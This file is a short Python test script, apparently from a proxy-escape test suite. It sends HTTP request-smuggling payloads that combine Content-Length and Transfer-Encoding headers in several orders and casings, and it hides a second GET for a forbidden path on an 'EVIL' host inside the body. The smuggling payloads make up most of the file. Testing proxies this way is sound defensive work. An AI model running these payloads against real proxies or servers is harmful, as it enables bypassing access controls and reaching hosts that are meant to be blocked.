"""Gives a body a length and pieces at once (CL.TE, TE.CL), with a second request hidden in it."""
# outside: escapes

from attempt import attempt
from proxied import EVIL, FORBIDDEN, GOOD, exchange, reached, status

HIDDEN = f"GET /{FORBIDDEN} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode()


@attempt
def main():
    body, found = b"0\r\n\r\n" + HIDDEN, []
    size = str(len(body)).encode()
    for fields in (
        (b"Content-Length: " + size, b"Transfer-Encoding: chunked"),
        (b"Transfer-Encoding: chunked", b"Content-Length: " + size),
        (b"Content-Length: 4", b"Transfer-Encoding: chunked"),
        (b"Content-Length: " + size, b"transfer-encoding: CHUNKED"),
    ):
        raw = exchange(
            f"POST http://{GOOD}/length-and-chunks HTTP/1.1\r\nHost: {GOOD}\r\n".encode()
            + b"".join(field + b"\r\n" for field in fields)
            + b"\r\n"
            + body,
            answers=1,
        )
        found += [f"{fields}: {who}" for who in reached(raw, GOOD)] + (
            [f"{fields}: {status(raw)}"] if status(raw) in range(200, 300) else []
        )
    return found
